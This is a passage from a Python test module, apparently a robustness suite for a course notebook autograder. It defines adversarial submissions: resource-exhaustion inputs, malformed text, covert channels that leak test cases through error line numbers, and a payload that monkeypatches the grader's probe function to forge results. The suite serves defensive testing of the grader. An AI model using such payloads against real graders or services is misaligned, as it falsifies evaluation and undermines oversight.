        "[{'call': 'a' * 10**7, 'args': ['b' * 10**7], 'returned': 'c' * 10**7}]",
        "aaaa{2000}|cccc{2000}",
    ),
]

ON_OURS: list[Attack] = [
    *(
        Attack(
            name,
            "exhaustion",
            tries,
            before=f"{_FORGE}\nforge({arguments})",
            slow=name in _LONGEST,
        )
        for name, tries, arguments in _ANSWERS
    ),
    *(
        Attack(
            name,
            "exhaustion",
            tries,
            before=f"{_FORGE_FRAMES}\n{cell}",
            slow=slow,
        )
        for name, tries, cell, slow in _CHANNEL
    ),
    *(
        Attack(name, "exfiltration", tries, before=cell, twice=True)
        for name, tries, cell in _ROOM
    ),
    Attack(
        "calls_just_below_the_deadline",
        "exhaustion",
        "each call sleeps 8.5 of its 10 seconds",
        double="import time\ndef double(x, times=1):\n    time.sleep(8.5)\n",
        mean="import time\ndef mean(x):\n    time.sleep(8.5)\n",
        slow=True,
    ),
    *(
        Attack(
            name,
            "exfiltration",
            tries,
            double=f"import os, socket, threading\n{keeps}\n{_KEEPS}",
            mean=f"def mean(x):\n    {shows}\n",
            harm=harm,
        )
        for name, tries, keeps, shows, harm in _KEPT
    ),
    *(
        Attack(
            name,
            "bad input",
            tries,
            before=_ODD,
            double=f"def double(x, times=1):\n    return {value}\n",
            mean=f"def mean(x):\n    return {value}\n",
            harm="grader itself broke|not graded to its end",
        )
        for name, tries, value in _ODD_ANSWERS
    ),
    *(
        Attack(
            name,
            kind,
            tries,
            before=_FORGE_CALLS + f"forge({arguments})",
            harm=harm,
        )
        for name, kind, tries, arguments, harm in _CALLS
    ),
    Attack(
        "covert_line",
        "exfiltration",
        "the number of a line of another cell says what the case holds",
        before="\n".join(f"#{number:x}f" for number in range(13_000)),
        double="from course_grader.kernel import serve\n"
        "real = serve.run_probe\n"
        "def probe(*given):\n"
        "    record = real(*given)\n"
        "    record['raised'] = ['ValueError']\n"
        "    record['where'] = ['<ipython-input-1-', 4_711]\n"
        "    return record\n"
        "serve.run_probe = probe\n" + NO_DOUBLE,
        harm="your line `#1266f`",
    ),
    Attack(
        "covert_lines_of_its_own",
        "exfiltration",
        "the same with its own cell, another line for each check",
        double="\n".join(f"# {number:x}f" for number in range(9_000))
        + "\ndef double(x, times=1):\n    1 / 0\n",
        harm=r"your line `# \w+f`(?s:.*)your line `# \w+f`",
    ),
    Attack(
        "endless_line",
        "exhaustion",
        "an error at a line of 180,000 characters",
        double="def double(x, times=1): 1 / 0; '" + "<&" * 90_000 + "'",
        harm="at your line `[^`]{300}",
    ),
    Attack(
        "blanks_to_highlight",
        "exhaustion",
        "cells of blank lines, for the highlighter",
        edit=_slow_lines(" \n" * 10_000, 45),
        slow=True,
    ),
    Attack(
        "quotes_to_highlight",
        "exhaustion",
        "cells of quotes that end nothing",
        edit=_slow_lines("f'{\"" * 4_000, 40),
    ),
    Attack(
        "mathematics_to_render",
        "exhaustion",
        "texts of formulas that never end",
        edit=_texts("\\\\(" * 5_000, 60),
    ),
    Attack(
        "stars_to_render",
        "exhaustion",
        "texts of stars",
        edit=_texts("a*" * 7_000, 60),
    ),
    Attack(
        "number_too_long_to_print",
        "bad input",
        "a number of 6,000 hexadecimal digits in place of one of the course's",
        edit=_setup_changed("two = 0x" + "f" * 6_000),
    ),
    Attack(
        "sum_without_end",
        "bad input",
        "a sum of 20,000 numbers beside a line that reaches for the grader",
        before="import ctypes\nx = " + "+".join(["1"] * 20_000),
    ),
    Attack(
        "names_of_names",
        "bad input",
        "20,000 names that are made of one another and of a grader's module",
        before="import ctypes as a0\n"
        + "\n".join(f"a{n} = a{n - 1}" for n in range(1, 20_000)),
    ),
    Attack(
        "reaching_without_end",
        "bad input",
        "20,000 lines that reach for the grader",
        before="import sys\n" + "sys._getframe()\n" * 20_000,
    ),
    Attack(
        "half_a_character_printed",
        "bad input",
        "half a character in what a cell prints, shows and raises",
        before="from IPython.display import HTML, display\n"
        "print('caf\\udce9')\ndisplay(HTML('caf\\udce9'))\n"
        "class E(Exception):\n    pass\n"
        "E.__name__ = 'E\\udce9'\nraise E('caf\\udce9')",
    ),
]
"""Attacks that stock nbgrader has nothing to be tried with for."""
